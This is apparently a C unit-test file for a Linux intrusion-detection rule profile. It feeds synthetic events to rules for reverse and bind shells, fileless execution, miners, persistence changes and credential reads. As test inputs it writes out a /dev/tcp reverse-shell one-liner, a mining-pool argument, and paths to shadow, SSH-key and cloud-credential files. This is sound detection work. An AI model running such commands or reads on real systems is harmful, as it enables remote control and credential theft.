/* SPDX-License-Identifier: GPL-2.0-only */
/* The rules of profiles/base.yaml: each on what it is for and on what looks like it. */
#include "../../common/process.h"
#include "../../common/profile.h"
#include "check.h"

#include <sys/socket.h>
#include <sys/stat.h>

static struct profile *profile;

/* What happened; the rest is as in an ordinary shell with a terminal. */
struct scene {
	enum kwp_type type;
	const char *executable, *name, *parent, *parent_name, *script, *path, *target;
	const char *args, *parent_line; /* joined by blanks */
	const char *io;			/* of fds 0 to 2: 't'ty, 's'ocket, 'u'nix socket, 'p'ipe */
	unsigned accepted, unlinked, mount, exec_session;
	unsigned magic, uid, file_mode;
	unsigned node; /* the device that a character device is made for */
	unsigned long long flags, mode; /* of an act on a file */
};

#define TMPFS 0x01021994
#define KERNEL KWP_FILE_KERNMOUNT

static struct kwp_io io_make(char kind, unsigned accepted)
{
	struct kwp_io io = {.kind = kind == 't' ? KWP_IO_TTY : KWP_IO_PIPE};

	if (kind != 's' && kind != 'u')
		return io;
	io.kind = KWP_IO_SOCKET;
	io.accepted = (unsigned char)accepted;
	io.peer.family = kind == 's' ? AF_INET : AF_UNIX;
	io.peer.port = 4444;
	return io;
}

static struct kwp_stdio stdio_make(const struct scene *scene)
{
	struct kwp_stdio io;

	for (int fd = 0; fd < 3; fd++)
		io.fd[fd] = io_make(scene->io ? scene->io[fd] : 't', scene->accepted);
	return io;
}

static void process_args(struct process *process, const struct scene *scene)
{
	static char args[500], line[500];

	if (!scene->args)
		return;
	snprintf(line, sizeof(line), "%s", scene->args);
	process->args_size = snprintf(args, sizeof(args), "%s", line) + 1;
	for (char *c = args; *c; c++)
		if (*c == ' ')
			*c = '\0';
	process->args = args;
	process->command_line = line;
}

/* Ids of the rules that see it, each with a space. */
static const char *found(struct scene scene)
{
	static char ids[500];
	struct process parent = {.executable = (char *)scene.parent,
				 .command_line = (char *)scene.parent_line};
	struct process process = {.executable = (char *)scene.executable,
				  .parent = &parent,
				  .script = (char *)scene.script,
				  .entered = scene.exec_session};
	struct kwp_exec exec = {.io = stdio_make(&scene)};
	struct kwp_net net = {.io = stdio_make(&scene), .family = AF_INET};
	struct kwp_dup dup = {.io = stdio_make(&scene)};
	struct kwp_file_act act = {.flags = scene.flags, .mode = scene.mode, .fd = -1};
	struct kwp_record record = {.type = (unsigned short)scene.type};
	struct event event = {.record = &record, .process = &process, .facts = &net};
	const char *path = scene.path ? scene.path : scene.executable;

	process.uid = scene.uid;
	if (scene.parent_line) {
		parent.fetched = true;
		parent.connected = PROCESS_OUTBOUND;
		parent.args = (char *)"perl\0-e";
		parent.args_size = 8;
	}
	process_args(&process, &scene);
	snprintf(process.comm, sizeof(process.comm), "%s", scene.name);
	snprintf(parent.comm, sizeof(parent.comm), "%s", scene.parent_name ?: "bash");
	exec.file = (struct kwp_file){.links = !scene.unlinked,
				      .flags = scene.mount,
				      .magic = scene.magic ?: 0xef53,
				      .mode = scene.file_mode ?: 0100755,
				      .inode = 9};
	if (scene.type == KWP_EXEC) {
		event.facts = &exec;
		event.path = (struct text){path, strlen(path)};
	} else if (scene.type == KWP_DUP) {
		event.facts = &dup;
	} else if (event_is_file(scene.type)) {
		if (scene.node)
			act.extra = scene.node;
		else
			act.file = exec.file;
		event.facts = &act;
		if (scene.path)
			event.path = (struct text){scene.path, strlen(scene.path)};
		if (scene.target)
			event.target_path = (struct text){scene.target, strlen(scene.target)};
	}
	ids[0] = '\0';
	for (size_t i = 0; i < profile->rules_count; i++) {
		if (!rule_match(&profile->rules[i], &event))
			continue;
		strcat(ids, profile->rules[i].id);
		strcat(ids, " ");
	}
	return ids;
}

#define FOUND(...) found((struct scene){__VA_ARGS__})
#define BASH .executable = "/usr/bin/bash", .name = "bash"
#define SH .executable = "/usr/bin/dash", .name = "sh"
#define CAT .executable = "/usr/bin/cat", .name = "cat"

static void test_connected_code(void)
{
#define RAN(words, code, streams)                                                                  \
	FOUND(KWP_EXEC, .executable = "/usr/bin/id", .name = "id", .args = words,                  \
	      .parent_line = code, .io = streams, .parent = "/usr/bin/perl",                       \
	      .parent_name = "perl")
	CHECK_STR(RAN("id", "perl -e side($_)", "tpt"), "connected-code ");
	CHECK_STR(RAN("id -u\n", "perl -e qx(id -u)", "tpt"), "");
	CHECK_STR(FOUND(KWP_EXEC, SH, .args = "sh", .parent_line = "perl -e feed(sh)", .io = "ppt",
			.parent = "/usr/bin/perl"),
		  "connected-code ");
	CHECK_STR(FOUND(KWP_EXEC, .executable = "/usr/bin/id", .name = "id", .args = "id",
			.parent = "/usr/bin/bash", .io = "tss"),
		  "connected-code ");
	CHECK_STR(FOUND(KWP_EXEC, .executable = "c", .name = "curl", .args = "c -d @",
			.parent_line = "s"),
		  "answer-sent data-sent ");
}

static void test_reverse_shell(void)
{
	CHECK_STR(FOUND(KWP_EXEC, BASH, .io = "sss"), "reverse-shell ");
	CHECK_STR(FOUND(KWP_EXEC, BASH, .io = "sst"), "reverse-shell ");
	CHECK_STR(FOUND(KWP_EXEC, BASH, .io = "sts"), "reverse-shell ");
	CHECK_STR(FOUND(KWP_DUP, BASH, .io = "sss"), "reverse-shell ");
	CHECK_STR(FOUND(KWP_CONNECT, BASH, .io = "sss"), "reverse-shell ");
	CHECK_STR(FOUND(KWP_DUP, .executable = "/usr/bin/python3.11", .name = "x", .io = "sss"),
		  "reverse-shell ");
	CHECK_STR(FOUND(KWP_DUP, .executable = "/usr/bin/perl", .name = "perl", .io = "sss"),
		  "reverse-shell ");
	/* neither the name nor the path alone hides it */
	CHECK_STR(FOUND(KWP_EXEC, .executable = "/bin/bash", .name = "kworker", .io = "sss"),
		  "reverse-shell ");
	CHECK_STR(FOUND(KWP_EXEC, .executable = "/tmp/x", .name = "sh", .io = "sss"),
		  "reverse-shell ");
	CHECK_STR(FOUND(KWP_EXEC, .executable = "/bin/busybox", .name = "nc", .io = "sss"),
		  "reverse-shell net-tool ");
	CHECK_STR(FOUND(KWP_DUP, .executable = "/bin/busybox", .name = "busybox", .io = "sss",
			.args = "busybox httpd -f"),
		  "");
	CHECK_STR(FOUND(KWP_DUP, .executable = "/bin/busybox", .name = "busybox", .io = "sss",
			.args = "busybox sh"),
		  "reverse-shell ");
	CHECK_STR(FOUND(KWP_EXEC, .executable = "/tmp/x", .name = "x", .io = "sss"),
		  "exec-on-socket ");
}

static void test_not_reverse_shell(void)
{
	CHECK_STR(FOUND(KWP_EXEC, BASH), "");
	CHECK_STR(FOUND(KWP_EXEC, BASH, .io = "ppp"), "");
	CHECK_STR(FOUND(KWP_EXEC, BASH, .io = "uuu"), "");
	CHECK_STR(FOUND(KWP_EXEC, BASH, .io = "tss"), "");
	CHECK_STR(FOUND(KWP_DUP, .executable = "/usr/bin/ssh", .name = "ssh", .io = "sss"), "");
	CHECK_STR(FOUND(KWP_EXEC, .executable = "/usr/sbin/sshd", .name = "sshd", .io = "sst"), "");
	CHECK_STR(FOUND(KWP_EXEC, .executable = "/usr/bin/git", .name = "git", .io = "sst",
			.accepted = 1),
		  "");
	CHECK_STR(FOUND(KWP_CONNECT, .executable = "/usr/bin/curl", .name = "curl"), "");
	/* an sshd elsewhere is another program */
	CHECK_STR(FOUND(KWP_EXEC, .executable = "/tmp/sshd", .name = "sshd", .io = "sst"),
		  "exec-on-socket ");
}

static void test_bind_shell(void)
{
	CHECK_STR(FOUND(KWP_EXEC, BASH, .io = "sss", .accepted = 1), "bind-shell ");
	CHECK_STR(FOUND(KWP_DUP, .executable = "/usr/bin/ruby3.1", .name = "ruby", .io = "sss",
			.accepted = 1),
		  "bind-shell ");
	CHECK_STR(FOUND(KWP_EXEC, BASH, .io = "sss", .accepted = 1, .script = "/srv/check.sh",
			.parent = "/usr/sbin/xinetd"),
		  "");
	CHECK_STR(FOUND(KWP_EXEC, BASH, .io = "sss", .accepted = 1, .parent = "/usr/sbin/xinetd"),
		  "bind-shell ");
	CHECK_STR(FOUND(KWP_EXEC, BASH, .io = "sss", .accepted = 1, .script = "/srv/check.sh",
			.parent = "/tmp/xinetd", .parent_name = "xinetd"),
		  "bind-shell ");
	CHECK_STR(FOUND(KWP_EXEC, .executable = "/usr/sbin/sshd", .name = "sshd", .io = "sst",
			.accepted = 1),
		  "");
}

#define MEMFD .unlinked = 1, .mount = KERNEL, .magic = TMPFS

static void test_fileless(void)
{
	CHECK_STR(FOUND(KWP_EXEC, .executable = "memfd:x", .name = "3", MEMFD), "fileless-exec ");
	CHECK_STR(FOUND(KWP_EXEC, .executable = "/dev/shm/#12 (deleted)", .name = "3",
			.unlinked = 1, .magic = TMPFS),
		  "fileless-exec ");
	CHECK_STR(FOUND(KWP_EXEC, .executable = "/x", .name = "x", .mount = KERNEL, .magic = TMPFS),
		  "fileless-exec ");
	CHECK_STR(FOUND(KWP_EXEC, .executable = "/memfd:runc_cloned:/proc/self/exe", .name = "6",
			MEMFD),
		  "runtime-from-memory ");
	CHECK_STR(FOUND(KWP_EXEC, .executable = "memfd:crun_cloned:/proc/self/exe", .name = "6",
			MEMFD),
		  "runtime-from-memory ");
	CHECK_STR(FOUND(KWP_EXEC, .executable = "/memfd:runc_cloned:/proc/self/exe", .name = "6",
			MEMFD, .parent = "/usr/bin/ruby3.1"),
		  "fileless-exec runtime-from-memory ");
	CHECK_STR(FOUND(KWP_EXEC, .executable = "memfd:my_runc_cloned:x", .name = "6", MEMFD),
		  "fileless-exec ");
	CHECK_STR(FOUND(KWP_EXEC, .executable = "memfd:x", .name = "runc:[2:INIT]", MEMFD,
			.parent = "/tmp/runc"),
		  "fileless-exec ");
}

static void test_deleted(void)
{
	CHECK_STR(FOUND(KWP_EXEC, .executable = "/tmp/x (deleted)", .name = "x", .unlinked = 1),
		  "exec-deleted ");
	CHECK_STR(FOUND(KWP_EXEC, .executable = "/dev/shm/x", .name = "x", .magic = TMPFS),
		  "exec-shared-memory ");
	CHECK_STR(FOUND(KWP_EXEC, .executable = "/tmp/x", .name = "x", .magic = TMPFS), "");
	CHECK_STR(FOUND(KWP_EXEC, .executable = "/usr/bin/ls", .name = "ls"), "");
}

static void test_server(void)
{
	CHECK_STR(FOUND(KWP_EXEC, BASH, .parent_name = "nginx"), "server-spawns-shell ");
	CHECK_STR(FOUND(KWP_EXEC, .executable = "/usr/bin/dash", .name = "sh",
			.parent_name = "php-fpm8.2"),
		  "server-spawns-shell ");
	CHECK_STR(FOUND(KWP_EXEC, BASH, .parent_name = "nginx", .script = "/srv/cgi.sh"), "");
	CHECK_STR(FOUND(KWP_EXEC, BASH, .parent_name = "make"), "");
	CHECK_STR(
		FOUND(KWP_EXEC, .executable = "/usr/bin/gs", .name = "gs", .parent_name = "nginx"),
		"");
}

static void test_session(void)
{
	CHECK_STR(FOUND(KWP_EXEC, BASH, .exec_session = 1), "exec-session ");
}

static void test_code(void)
{
	CHECK_STR(FOUND(KWP_EXEC, BASH, .io = "stt", .args = "bash"), "script-from-network ");
	CHECK_STR(FOUND(KWP_EXEC, BASH, .io = "stt", .args = "bash -c ls"), "");
	CHECK_STR(FOUND(KWP_EXEC, BASH, .io = "stt", .accepted = 1), "");
	CHECK_STR(FOUND(KWP_EXEC, .executable = "/usr/bin/perl", .name = "perl",
			.args = "perl /proc/self/fd/3"),
		  "script-from-memory ");
	CHECK_STR(FOUND(KWP_EXEC, .executable = "/usr/bin/cat", .name = "cat",
			.args = "cat /proc/self/fd/3"),
		  "");
	CHECK_STR(FOUND(KWP_MPROTECT, .executable = "/tmp/x", .name = "x", .mode = 5),
		  "memory-executable ");
	CHECK_STR(FOUND(KWP_MPROTECT, .executable = "/usr/bin/node", .name = "node", .mode = 5),
		  "");
	CHECK_STR(FOUND(KWP_MMAP_EXEC, CAT, .path = "/memfd:x", .mode = 5, MEMFD),
		  "memory-file-mapped ");
	CHECK_STR(FOUND(KWP_MMAP_EXEC, CAT, .path = "/usr/lib/libc.so.6", .mode = 5), "");
}

#define NODE .path = "/tmp/m", .mode = S_IFCHR | 0600

static void test_devices(void)
{
	CHECK_STR(FOUND(KWP_CREATE, CAT, NODE, .node = 0x101), "block-device ");
	CHECK_STR(FOUND(KWP_CREATE, CAT, NODE, .node = 0x103), "");
	CHECK_STR(FOUND(KWP_CREATE, CAT, .path = "/tmp/m", .mode = S_IFBLK, .node = 0x800),
		  "block-device ");
}

static void test_words_of_commands(void)
{
	CHECK_STR(FOUND(KWP_EXEC, SH, .args = "sh -i >& /dev/tcp/1.2.3.4/5"), "shell-one-liner ");
	CHECK_STR(FOUND(KWP_EXEC, SH, .args = "sh -c echo >/dev/tcp/1.2.3.4/5"), "");
	CHECK_STR(FOUND(KWP_EXEC, .executable = "/tmp/x", .name = "x",
			.args = "x -o stratum+tcp://pool:3333"),
		  "miner ");
	CHECK_STR(FOUND(KWP_EXEC, .executable = "/tmp/x", .name = "x", .args = "[kworker/0:1]"),
		  "masquerade ");
	CHECK_STR(FOUND(KWP_EXEC, .executable = "/usr/bin/sleep", .name = "sleep",
			.args = "/usr/sbin/sshd 8"),
		  "masquerade ");
	CHECK_STR(FOUND(KWP_EXEC, .executable = "/usr/sbin/sshd", .name = "sshd",
			.args = "/usr/sbin/sshd -D"),
		  "");
	CHECK_STR(
		FOUND(KWP_EXEC, .executable = "/usr/bin/shred", .name = "shred", .args = "shred x"),
		"data-destroyed ");
	CHECK_STR(FOUND(KWP_EXEC, .executable = "/usr/bin/base64", .name = "base64",
			.args = "base64 -d"),
		  "decode-payload ");
	CHECK_STR(FOUND(KWP_EXEC, .executable = "/usr/bin/base64", .name = "base64",
			.args = "base64 x"),
		  "");
}

#define WRITES .flags = 01 /* O_WRONLY */

static void test_changes(void)
{
	static const struct {
		const char *path, *rule;
	} changed[] = {
		{"/etc/cron.d/x", "cron-changed "},
		{"/var/spool/cron/crontabs/root", "cron-changed "},
		{"/etc/systemd/system/x.service", "startup-changed "},
		{"/etc/init.d/x", "startup-changed "},
		{"/root/.bashrc", "shell-startup-changed "},
		{"/etc/ld.so.preload", "loader-changed "},
		{"/home/u/.ssh/authorized_keys", "ssh-changed "},
		{"/etc/passwd", "accounts-changed "},
		{"/etc/sudoers.d/x", "login-changed "},
		{"/etc/hosts", "trust-changed "},
		{"/usr/bin/ls", "program-changed "},
		{"/usr/lib/x86_64-linux-gnu/libc.so.6", "program-changed "},
		{"/etc/rsyslog.conf", "log-config-changed "},
		{"/tmp/x", ""},
		{"/srv/etc/passwd", ""},
		{"/var/log/syslog", ""},
	};

	for (size_t i = 0; i < ARRAY_SIZE(changed); i++) {
		const char *path = changed[i].path;

		CHECK_STR(FOUND(KWP_OPEN, CAT, .path = path, WRITES), changed[i].rule);
		CHECK_STR(FOUND(KWP_CREATE, CAT, .path = path), changed[i].rule);
		CHECK_STR(FOUND(KWP_RENAME, CAT, .path = "/tmp/y", .target = path),
			  changed[i].rule);
		CHECK_STR(FOUND(KWP_OPEN, CAT, .path = path), "");
		CHECK_STR(FOUND(KWP_OPEN, .executable = "/usr/bin/dpkg", .name = "dpkg",
				.path = path, WRITES),
			  "");
	}
	CHECK_STR(FOUND(KWP_OPEN, CAT, .path = "/var/log/syslog", .flags = 01001), "log-cleared ");
	CHECK_STR(FOUND(KWP_UNLINK, CAT, .path = "/root/.bash_history"), "history-cleared ");
	CHECK_STR(FOUND(KWP_CHMOD, CAT, .path = "/tmp/x", .mode = 04755), "setuid-bit ");
	CHECK_STR(FOUND(KWP_CHMOD, CAT, .path = "/tmp/x", .mode = 01777), "");
	CHECK_STR(FOUND(KWP_CHMOD, CAT, .path = "/tmp/x", .mode = 0755), "");
}

static void test_reads(void)
{
	CHECK_STR(FOUND(KWP_OPEN, CAT, .path = "/etc/shadow"), "passwords-read ");
	CHECK_STR(FOUND(KWP_OPEN, .executable = "/usr/bin/su", .name = "su", .path = "/etc/shadow"),
		  "");
	CHECK_STR(FOUND(KWP_OPEN, CAT, .path = "/root/.ssh/id_rsa"), "keys-read ");
	CHECK_STR(FOUND(KWP_OPEN, .executable = "/usr/bin/ssh", .name = "ssh",
			.path = "/root/.ssh/id_rsa"),
		  "");
	CHECK_STR(FOUND(KWP_OPEN, CAT, .path = "/root/.aws/credentials"), "credentials-read ");
	CHECK_STR(FOUND(KWP_OPEN, .executable = "/usr/bin/aws", .name = "aws",
			.path = "/root/.aws/credentials"),
		  "");
	CHECK_STR(FOUND(KWP_OPEN, CAT,
			.path = "/run/secrets/kubernetes.io/serviceaccount/..data/token"),
		  "pod-token-read ");
}

/* Each rule is ready for people: a title, a technique, a message, false positives. */
static void test_words(void)
{
	for (size_t i = 0; i < profile->rules_count; i++) {
		const struct rule *rule = &profile->rules[i];

		CHECK(rule->title && rule->message && rule->false_positives);
		CHECK(rule->technique_count && rule->when);
	}
}

int main(void)
{
	struct profile_problems problems = {0};

	setenv("KWP_PROFILES", "/nowhere", 1);
	CHECK(!profile_read("base", &profile, &problems));
	CHECK(!problems.count);
	if (profile) {
		test_connected_code();
		test_reverse_shell();
		test_not_reverse_shell();
		test_bind_shell();
		test_fileless();
		test_deleted();
		test_server();
		test_session();
		test_code();
		test_devices();
	test_words_of_commands();
		test_changes();
		test_reads();
		test_words();
	}
	profile_free(profile);
	profile_problems_free(&problems);
	return check_end();
}
